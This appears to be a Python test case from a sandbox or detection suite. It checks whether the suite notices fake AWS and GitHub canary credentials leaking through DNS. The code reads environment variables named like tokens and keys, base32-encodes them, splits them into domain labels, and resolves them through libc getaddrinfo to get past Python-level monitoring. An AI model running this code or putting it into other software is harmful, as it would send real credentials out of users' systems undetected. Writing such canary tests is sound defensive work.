"""Sends what looks like a key out as a name to look up, past Python, in pieces and in base32."""

# group: secrets
# status: passed
# limits: {observe: network}
# network: true
# rules: [canary-touched, network-attempt]
# canaries:
#   - the fake AWS key id (to the network)
#   - the fake AWS secret key (to the network)
#   - the fake GitHub token (to the network)

import base64
import ctypes
import os

LIBC = ctypes.CDLL(None)
for name, value in os.environ.items():
    if name.endswith(("TOKEN", "KEY", "KEY_ID")):
        said = base64.b32encode(f"{name[0]}={value}".encode()).decode().rstrip("=").lower()
        labels = [said[at : at + 20] for at in range(0, len(said), 20)]
        LIBC.getaddrinfo(".".join([*labels, "example"]).encode(), None, None, ctypes.byref(ctypes.c_void_p()))
